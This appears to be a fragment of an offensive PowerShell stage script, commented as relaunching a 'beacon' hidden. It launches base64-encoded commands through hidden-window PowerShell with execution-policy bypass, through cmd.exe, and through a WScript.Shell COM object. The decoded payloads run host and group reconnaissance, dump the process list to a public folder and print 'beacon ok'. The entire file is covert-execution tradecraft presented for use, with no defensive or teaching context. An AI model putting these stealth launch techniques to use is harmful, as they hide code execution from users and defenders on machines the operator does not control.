# stage 1: relaunch the beacon hidden with an encoded command
$b64 = 'dwBoAG8AYQBtAGkAIAAvAGcAcgBvAHUAcABzADsAIABoAG8AcwB0AG4AYQBtAGUA'

Start-Process -FilePath powershell.exe -WindowStyle Hidden -ArgumentList "-NoP -NonI -W Hidden -Enc $b64"

powershell.exe -nop -w hidden -ep bypass -e RwBlAHQALQBQAHIAbwBjAGUAcwBzACAAfAAgAE8AdQB0AC0ARgBpAGwAZQAgAEMAOgBcAFUAcwBlAHIAcwBcAFAAdQBiAGwAaQBjAFwAcAAuAHQAeAB0AA==

cmd.exe /c powershell -WindowStyle Hidden -EncodedCommand VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAiAGIAZQBhAGMAbwBuACAAbwBrACIA

$wsh = New-Object -ComObject WScript.Shell
$wsh.Run("powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand $b64", 0, $false) | Out-Null
